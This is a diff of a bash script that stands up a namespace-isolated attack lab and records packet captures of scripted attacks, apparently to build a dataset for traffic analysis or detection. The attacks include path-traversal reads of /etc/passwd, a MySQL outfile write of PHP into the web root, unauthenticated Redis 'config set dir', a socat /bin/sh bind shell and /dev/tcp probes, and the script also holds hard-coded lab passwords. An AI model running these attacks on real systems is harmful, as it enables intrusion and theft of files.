@@ -13,12 +13,13 @@ lab attacker c2 app office share inner dns
 A=${ADDR[app]} X=${ADDR[attacker]} C=${ADDR[c2]}
 UA='Mozilla/5.0 (Windows NT 10.0; Win64; x64)'
 
-# take NAME CMD...: one capture
+# take NAME CMD...: one capture; tcpdump says that it listens a little before it does
 take() {
 	local name=$1; shift
 	[ "$WANT" = "  " ] || [[ "$WANT" == *" $name "* ]] || return 0
 	record "$DIR/$name.pcap" "${FILTER:-ip and not igmp}"
-	"$@" || true
+	sleep 0.4
+	"$@" >/dev/null || true
 	sleep "${REST:-0.2}"
 	finish
 }
@@ -57,7 +58,7 @@ printf '%s\n' listen=YES listen_ipv6=NO anonymous_enable=NO local_enable=YES bac
 	write_enable=YES "listen_address=${ADDR[share]}" pam_service_name=vsftpd >"$TMP/vsftpd.conf"
 as_host share "$D" "$(PATH=$PATH:/usr/sbin command -v vsftpd)" "$TMP/vsftpd.conf"
 sshd_on inner ops 'Inner#2020'
-serve app redis-server --bind "$A" --port 6379 --protected-mode no --save '' --dir "$TMP"
+serve app redis-server --bind "$A" --port 6379 --protected-mode no --enable-protected-configs yes --save '' --dir "$TMP"
 serve app redis-server --bind "$A" --port 6380 --requirepass lab-secret --save '' --dir "$TMP"
 serve app socat "TCP-LISTEN:4001,bind=$A,fork,reuseaddr" "EXEC:/bin/sh,stderr"
 serve c2 socat "TCP-LISTEN:4444,bind=$C,fork,reuseaddr" 'SYSTEM:cat >/dev/null'
@@ -106,7 +107,7 @@ mariadb -S "$TMP/my/s" -uroot -e "create user 'app'@'%' identified by 'App#2020'
 # ---- web ----
 B=http://$A
 take web-passwd web --path-as-is "$B:8080/read?file=../etc/passwd"
-take web-passwd-gzip web --compressed "$B:8080/read?file=../../etc/../weak/etc/passwd"
+take web-passwd-gzip web --compressed --path-as-is "$B:8080/read?file=../www/../etc/passwd"
 take web-missing web --path-as-is "$B/read?file=../../../etc/passwd"
 take web-any-page web "$B:81/read?file=../../../etc/passwd"
 take web-to-login web "$B:82/read?file=../../../etc/passwd"
@@ -154,6 +155,7 @@ take mysql-denied sql -p'App#2020' -e "select '<?php' into outfile '/var/www/htm
 take redis-open on attacker redis-cli -h "$A" -p 6379 config set dir /tmp
 take redis-locked on attacker redis-cli -h "$A" -p 6380 config set dir /tmp
 take port-closed on attacker bash -c "exec 3<>/dev/tcp/$A/6390" 2>/dev/null
+ip -n "$TAG-attacker" neigh add 10.10.1.250 lladdr 02:57:0a:0a:01:fa dev eth0
 REST=0.5 take port-nobody timeout 3 ip netns exec "$TAG-attacker" bash -c 'exec 3<>/dev/tcp/10.10.1.250/6390' 2>/dev/null
 bind_shell() { on attacker bash -c "exec 3<>/dev/tcp/$A/4001; printf 'id\n' >&3; read -r -t 2 -u 3 line; exec 3>&-"; }
 take bind-shell bind_shell
